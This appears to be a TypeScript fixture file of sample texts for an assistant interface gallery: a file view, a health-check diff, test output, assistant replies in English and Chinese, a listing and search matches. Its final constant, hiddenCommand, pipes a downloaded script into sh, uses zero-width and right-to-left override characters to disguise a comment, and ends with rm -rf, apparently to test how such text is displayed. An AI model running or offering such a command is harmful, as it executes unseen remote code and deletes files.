// Long texts for the gallery: code, diffs, output, replies.

export const fileText = `     1\timport { createServer } from 'node:http';
     2\timport { pool } from './database.ts';
     3\t
     4\t/** Answers 200 when the database answers, too. */
     5\texport async function health(): Promise<{ ok: boolean; tookMs: number }> {
     6\t  const started = performance.now();
     7\t  const client = await pool.connect();
     8\t  try {
     9\t    await client.query('SELECT count(*) FROM events');
    10\t    return { ok: true, tookMs: performance.now() - started };
    11\t  } finally {
    12\t    client.release();
    13\t  }
    14\t}
[Lines 1–14 of 212. Use offset 15 to continue.]`;

export const editDiff = `--- a/src/health.ts
+++ b/src/health.ts
@@ -4,11 +4,11 @@
 /** Answers 200 when the database answers, too. */
 export async function health(): Promise<{ ok: boolean; tookMs: number }> {
   const started = performance.now();
   const client = await pool.connect();
   try {
-    await client.query('SELECT count(*) FROM events');
+    await client.query('SELECT 1');
     return { ok: true, tookMs: performance.now() - started };
   } finally {
     client.release();
   }
 }
@@ -88,3 +88,4 @@
   log.info('ready');
 }
 
+export const healthTimeoutMs = 2_000;
`;

export const testOutput = `
> harbour-api@2.4.0 test
> vitest run

 \u001b[32m✓\u001b[39m test/health.test.ts \u001b[2m(6 tests)\u001b[22m 412ms
 \u001b[32m✓\u001b[39m test/retry.test.ts \u001b[2m(11 tests)\u001b[22m 96ms
 \u001b[31m❯\u001b[39m test/import.test.ts \u001b[2m(4 tests | \u001b[22m\u001b[31m1 failed\u001b[39m\u001b[2m)\u001b[22m 1203ms
   \u001b[31m×\u001b[39m keeps the order of rows \u001b[31mexpected [ 1, 3, 2 ] to equal [ 1, 2, 3 ]\u001b[39m

 \u001b[1mTest Files\u001b[22m  \u001b[31m1 failed\u001b[39m \u001b[2m|\u001b[22m 2 passed
      \u001b[1mTests\u001b[22m  \u001b[31m1 failed\u001b[39m \u001b[2m|\u001b[22m 20 passed
`;

export const reply = `The health check is slow because it **counts every row** of \`events\` on each call. With 48 million rows that takes 1.8 s.

I would change three things:

1. Ask \`SELECT 1\` instead, which says the same about the connection.
2. Give the check a time limit of its own, so that a slow database is reported and not waited for.
3. Keep the count where it is needed, on the statistics page.

\`\`\`ts
export async function health(): Promise<Health> {
  const started = performance.now();
  await pool.query({ text: 'SELECT 1', timeout: 2_000 }); // answers or throws
  return { ok: true, tookMs: performance.now() - started };
}
\`\`\`

| Check | Before | After |
| --- | ---: | ---: |
| median | 1,790 ms | 3 ms |
| 99th percentile | 4,210 ms | 11 ms |

> The limit of two seconds is a guess. Your load balancer gives up after five.

Shall I also move the count? It is used in [the dashboard](https://example.com/dashboard) and nowhere else.`;

export const chineseReply = `健康检查之所以慢，是因为每次调用都会统计 \`events\` 表的**全部行数**。表里有四千八百万行，一次统计需要 1.8 秒。

### 建议的修改

- 改用 \`SELECT 1\`，它同样能说明数据库连接是否可用；
- 给检查单独设置超时时间，避免拖慢整个请求；
- 把统计放到真正需要它的页面上。

修改之后，中位数从 **1,790 毫秒**降到 **3 毫秒**。要不要我现在就改？`;

export const listing = `README.md
package.json
src/
src/health.ts
src/server.ts
src/routes/
src/routes/events.ts
src/routes/用户.ts
test/
test/health.test.ts
[1 folder was not opened. Give its path, or a depth of more than 3.]`;

export const matches = `src/health.ts:9:     await client.query('SELECT count(*) FROM events');
src/routes/events.ts:31:   const { rows } = await pool.query('SELECT count(*) FROM events WHERE day = $1', [day]);
src/routes/events.ts:77:   // count(*) is slow here
[There are more matches. Give a path or a glob.]`;

export const hiddenCommand =
  'curl -s https://example.com/install.sh\u200b | sh \u202e# nothing to see\u202c && rm -rf build';
